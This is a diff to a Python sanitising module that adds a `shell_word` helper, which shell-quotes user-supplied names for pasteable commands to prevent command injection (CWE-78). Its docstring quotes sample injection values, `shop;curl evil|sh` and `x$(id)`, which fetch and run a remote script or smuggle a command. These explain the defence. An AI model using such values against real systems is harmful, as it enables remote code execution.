@@ -17,6 +17,7 @@ bidirectional overrides and isolates that reorder what a reader sees
 from __future__ import annotations
 
 import re
+import shlex
 
 _UNSAFE = re.compile(
     "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff\ufffe\uffff]"
@@ -87,3 +88,10 @@ def redact_image(image: str) -> str:
     if "@" not in image:
         return image
     return _IMAGE_USERINFO.sub(lambda m: f"{m.group(1) or ''}***@", image, count=1)
+
+
+def shell_word(text: str) -> str:
+    """`text` as one shell word, for a command a user pastes: names come from the input, and a
+    namespace `shop;curl evil|sh` or a secret `x$(id)` must stay a (refused) name, never run
+    (CWE-78). A valid Kubernetes name, registry or key is printed as it is."""
+    return shlex.quote(text)
